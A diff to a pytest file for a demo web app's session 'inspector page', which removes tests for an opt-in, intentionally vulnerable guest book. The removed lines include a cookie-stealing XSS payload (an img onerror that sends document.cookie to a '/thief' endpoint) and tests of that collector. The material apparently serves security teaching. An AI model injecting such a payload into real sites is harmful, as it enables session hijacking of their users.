@@ -1,4 +1,4 @@
-"""The inspector page and the guest book, as far as they show without a browser."""
+"""The inspector page, as far as it shows without a browser."""
 
 from __future__ import annotations
 
@@ -13,12 +13,10 @@ from demo_app.web.page import STATIC
 
 ADA = {"username": "ada", "password": "lovelace"}
 ASK = {"X-Inspect": "1"}
-GUEST_BOOK = ["/guestbook", "/thief?loot=x", "/thief/loot"]
-THEFT = """<img src=x onerror="fetch('/thief?loot=' + encodeURIComponent(document.cookie))">"""
 
 
-def make(guest_book=False, **options):
-    return create_app(SessionOptions(**{"name": "mycookie", "secret": "s", **options}), guest_book=guest_book)
+def make(**options):
+    return create_app(SessionOptions(**{"name": "mycookie", "secret": "s", **options}))
 
 
 def report(response):
@@ -38,6 +36,7 @@ class TestThePage:
         assert response.status_code == 200
         assert policy.pop("frame-ancestors") == "'self' http://127.0.0.1:* http://localhost:*"
         assert policy.pop("default-src") == policy.pop("base-uri") == "'none'"
+        assert policy.pop("sandbox") == "allow-scripts allow-same-origin"
         assert set(policy) == {"script-src", "style-src", "connect-src", "form-action"}
         assert set(policy.values()) == {"'self'"}
         assert "X-Frame-Options" not in response.headers
@@ -161,42 +160,3 @@ def test_a_new_session_has_a_new_id_and_no_data(client):
     assert client.get_cookie("mycookie").value != before
     assert client.get("/api/me").status_code == 401
     assert len(client.application.session_interface.store) == 1
-
-
-class TestTheGuestBook:
-    @pytest.fixture
-    def client(self):
-        return make(guest_book=True).test_client()
-
-    @pytest.mark.parametrize("path", GUEST_BOOK)
-    def test_it_is_not_there_by_default(self, path):
-        client = make().test_client()
-        assert client.get(path).status_code == client.post(path).status_code == 404
-
-    def test_it_is_keyword_only(self):
-        with pytest.raises(TypeError, match="positional"):
-            create_app(SessionOptions(secret="s"), ":memory:", True)
-
-    def test_it_shows_entries_unescaped_and_says_that_it_is_vulnerable(self, client):
-        response = client.post("/guestbook", data={"entry": THEFT})
-        assert (response.status_code, response.headers["Location"]) == (303, "guestbook")
-        page = client.get("/guestbook")
-        assert f"<li>{THEFT}</li>" in page.text
-        assert "Vulnerable on purpose" in page.text
-        assert "Content-Security-Policy" not in page.headers
-
-    def test_the_inspector_keeps_its_policy(self, client):
-        assert "script-src 'self'" in client.get("/").headers["Content-Security-Policy"]
-
-    def test_the_thief_keeps_what_comes(self, client):
-        assert client.get("/thief/loot").json == []
-        for loot in ("mycookie=1; _xsrf=2|secret", ""):
-            assert client.get("/thief", query_string={"loot": loot}).status_code == 204
-        assert client.get("/thief/loot").json == ["mycookie=1; _xsrf=…", ""]
-
-    def test_each_app_has_its_own(self, client):
-        client.post("/guestbook", data={"entry": "hello"})
-        client.get("/thief?loot=x")
-        other = make(guest_book=True).test_client()
-        assert "hello" not in other.get("/guestbook").text
-        assert other.get("/thief/loot").json == []
